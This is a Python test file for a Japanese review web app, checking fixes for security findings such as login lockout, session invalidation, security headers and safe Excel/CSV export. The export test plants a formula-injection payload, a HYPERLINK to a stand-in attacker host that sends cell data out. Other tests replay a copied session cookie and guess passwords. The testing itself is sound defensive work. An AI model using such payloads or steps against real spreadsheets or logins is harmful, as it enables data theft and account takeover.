"""What a security review and a hostile user found at the desk (issue 22), each now refused or fixed."""

from __future__ import annotations

import io
import urllib.request

import openpyxl
from argon2 import PasswordHasher
from sqlalchemy import select

from renraku.context import Context
from renraku.review import auth
from renraku.sinks import models as m
from tests.review.conftest import PEOPLE, _token, login, token_for


def _try_login(client, name: str, password: str):  # type: ignore[no-untyped-def]
    token = _token(client.get("/login").get_data(as_text=True))
    return client.post("/login", data={"name": name, "password": password, "csrf_token": token})


def _actions(ctx: Context) -> list[tuple[str, str, str, dict]]:
    with ctx.sessions() as s:
        entries = s.scalars(select(m.AuditEntry).order_by(m.AuditEntry.id))
        return [(e.actor, e.action, e.target, e.detail) for e in entries]


def test_repeated_wrong_passwords_lock_the_name_and_are_audited(app, ctx: Context) -> None:
    client = app.test_client()
    for _ in range(25):
        assert _try_login(client, "tanaka", "wrong-password").status_code == 200
    refused = _try_login(client, "tanaka", PEOPLE["tanaka"][1])
    assert refused.status_code == 200 and "しばらくログインできません" in refused.get_data(as_text=True)
    assert client.get("/").status_code == 302  # not logged in
    actions = [a for _actor, a, target, _d in _actions(ctx) if target == "user:tanaka"]
    assert actions.count("login_failed") == 5 and "login_locked" in actions and "login" not in actions
    other = app.test_client()  # the lock is per name: another person at another desk still logs in
    other.environ_base["REMOTE_ADDR"] = "10.0.0.2"
    login(other, "suzuki")


def test_many_names_from_one_address_are_throttled_too(app, ctx: Context) -> None:
    client = app.test_client()
    for n in range(ctx.settings.ui_login_max_failures_per_address):
        _try_login(client, f"guess{n}", "wrong-password")
    assert "しばらくログインできません" in _try_login(client, "kansa", PEOPLE["kansa"][1]).get_data(as_text=True)


def test_an_unknown_name_costs_the_same_work_and_is_not_written_to_the_log(app, ctx: Context, monkeypatch) -> None:
    verified: list[str] = []

    class Counting(PasswordHasher):  # the real argon2, counted
        def verify(self, hash_, password) -> bool:  # type: ignore[no-untyped-def]
            verified.append(hash_)
            return super().verify(hash_, password)
    monkeypatch.setattr(auth, "hasher", Counting())
    client = app.test_client()
    _try_login(client, "tanaka", "wrong-password")
    _try_login(client, "山田花子 yamada@example.jp", "wrong-password")
    assert len(verified) == 2  # one argon2 verification each: the time does not tell which name exists
    entries = _actions(ctx)
    assert all("山田" not in str(e) and "yamada" not in str(e) for e in entries)
    failed = [e for e in entries if e[1] == "login_failed"]
    assert [(actor, target) for actor, _a, target, _d in failed] == [("(未ログイン)", "user:tanaka"),
                                                                      ("(未ログイン)", "user:?")]
    assert len(failed[1][3]["name_hash"]) == 16


def test_a_session_copied_before_logout_no_longer_works(app) -> None:
    client = app.test_client()
    login(client, "tanaka")
    copied = client.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", copied)
    assert thief.get("/").status_code == 200
    client.post("/logout", data={"csrf_token": token_for(client)})
    assert thief.get("/").status_code == 302


def test_a_role_change_deactivation_or_new_password_ends_the_persons_sessions(app, ctx: Context) -> None:
    reviewer, auditor = app.test_client(), app.test_client()
    login(reviewer, "tanaka")
    login(auditor, "kansa")
    boss = app.test_client()
    login(boss, "suzuki")
    with ctx.sessions() as s:
        ids = {u.name: u.id for u in s.scalars(select(m.User))}
    token = token_for(boss)
    boss.post("/users", data={"csrf_token": token, "action": "role", "user_id": ids["tanaka"], "role": "auditor"})
    assert reviewer.get("/").status_code == 302
    boss.post("/users", data={"csrf_token": token, "action": "deactivate", "user_id": ids["kansa"]})
    assert auditor.get("/").status_code == 302
    with ctx.sessions.begin() as s:
        auth.set_password(s, s.get(m.User, ids["suzuki"]), "a-new-password-1", actor="cli")
    assert boss.get("/").status_code == 302


def test_the_last_supervisor_cannot_be_demoted_or_deactivated(app, ctx: Context) -> None:
    client = app.test_client()
    login(client, "suzuki")
    with ctx.sessions() as s:
        me = s.scalar(select(m.User).where(m.User.name == "suzuki")).id
    token = token_for(client, "/users")
    for form in ({"action": "role", "role": "reviewer"}, {"action": "deactivate"}):
        page = client.post("/users", data={"csrf_token": token, "user_id": me, **form}, follow_redirects=True)
        assert "最後の責任者" in page.get_data(as_text=True)
    with ctx.sessions() as s:
        user = s.get(m.User, me)
        assert (user.role, user.active) == ("supervisor", True)
    page = client.post("/users", data={"csrf_token": token, "action": "role", "user_id": "abc", "role": "reviewer"},
                       follow_redirects=True).get_data(as_text=True)
    assert "見つかりません" in page and "invalid literal" not in page


def test_pages_carry_security_headers_and_no_server_name(app, served: str) -> None:
    response = app.test_client().get("/login")
    h = response.headers
    policy = h["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
    assert h["X-Frame-Options"] == "DENY" and h["X-Content-Type-Options"] == "nosniff"
    with urllib.request.urlopen(f"{served}/login") as real:  # through waitress, as served
        assert real.headers.get("Server") is None
        assert real.headers["X-Content-Type-Options"] == "nosniff"


def test_the_excel_export_holds_text_not_formulas(app, data, ctx: Context) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
    with ctx.sessions.begin() as s:
        field = s.get(m.Field, data["field"])
        field.value = formula
    client = app.test_client()
    login(client, "suzuki")
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/batches/{data['batch']}/export.xlsx").data))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)
    text = client.get(f"/batches/{data['batch']}/export.csv").data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def test_unknown_ids_are_404_in_japanese_and_leave_no_audit_entry(app, data, ctx: Context) -> None:
    client = app.test_client()
    login(client, "suzuki")
    token = token_for(client)
    before = len(_actions(ctx))
    for method, url in [("post", "/applications/99999/approve"), ("post", "/applications/99999/reject"),
                        ("get", "/applications/" + "9" * 20), ("get", "/batches/99999/export.csv"),
                        ("get", "/batches/99999"), ("get", "/fields/" + "9" * 25 + "/crop")]:
        form = {"csrf_token": token, "reason": "x"} if method == "post" else None
        response = getattr(client, method)(url, data=form)
        page = response.get_data(as_text=True)
        assert response.status_code == 404 and "見つかりません" in page and "Not Found" not in page, url
    assert len(_actions(ctx)) == before
    forbidden = client.get("/nothing-here")
    assert "見つかりません" in forbidden.get_data(as_text=True)
    login(reviewer := app.test_client(), "tanaka")
    denied = reviewer.get("/users")
    assert denied.status_code == 403 and "権限がありません" in denied.get_data(as_text=True)
    as_json = reviewer.post(f"/applications/{data['app']}/approve", headers={
        "X-CSRFToken": token_for(reviewer), "X-Requested-With": "fetch", "Accept": "application/json"})
    assert as_json.status_code == 403 and "権限がありません" in as_json.get_json()["error"]


def test_typed_values_are_bounded_per_field_kind_and_a_date_must_be_a_date(app, data, ctx: Context) -> None:
    with ctx.sessions() as s:
        fields = {f.path: f.id for f in s.get(m.Application, data["app"]).sheets[0].fields}
    client = app.test_client()
    login(client, "tanaka")
    token = token_for(client)
    headers = {"X-CSRFToken": token, "X-Requested-With": "fetch", "Accept": "application/json"}

    def put(path: str, value: str):  # type: ignore[no-untyped-def]
        return client.post(f"/fields/{fields[path]}", data={"value": value}, headers=headers)
    long = put("address", "栃木県宇都宮市" + "あ" * 200_000)
    assert long.status_code == 422 and "200文字まで" in long.get_json()["error"]
    not_a_date = put("application_date", "来週の火曜日あたり")
    assert not_a_date.status_code == 422 and "日付として読めません" in not_a_date.get_json()["error"]
    assert put("application_date", "令和7年4月1日").get_json()["field"]["value"] == "2025-04-01"
    with ctx.sessions() as s:
        assert "あああ" not in s.get(m.Field, fields["address"]).value


def test_an_interrupted_batch_says_so_on_its_page(app, ctx: Context) -> None:
    with ctx.sessions.begin() as s:
        s.add(m.Batch(kind="run", status="interrupted", stats={"items": 3}))
    client = app.test_client()
    login(client, "tanaka")
    page = client.get("/batches/1").get_data(as_text=True)
    assert "中断" in page and "途中で止まりました" in page and "定期取り込み" in page


def test_behind_a_proxy_the_throttle_counts_the_clients_address(ctx: Context, people) -> None:
    from renraku.review import create_app

    ctx.settings.ui_trusted_proxies = 1
    app = create_app(ctx)
    app.config["TESTING"] = True
    client = app.test_client()
    client.environ_base["HTTP_X_FORWARDED_FOR"] = "192.0.2.7"
    for n in range(ctx.settings.ui_login_max_failures_per_address):
        _try_login(client, f"guess{n}", "wrong-password")
    assert "しばらくログインできません" in _try_login(client, "kansa", PEOPLE["kansa"][1]).get_data(as_text=True)
    colleague = app.test_client()  # another desk behind the same proxy
    colleague.environ_base["HTTP_X_FORWARDED_FOR"] = "192.0.2.8"
    login(colleague, "kansa")
    with ctx.sessions() as s:
        assert {e.detail.get("address") for e in s.scalars(select(m.AuditEntry))} >= {"192.0.2.7"}
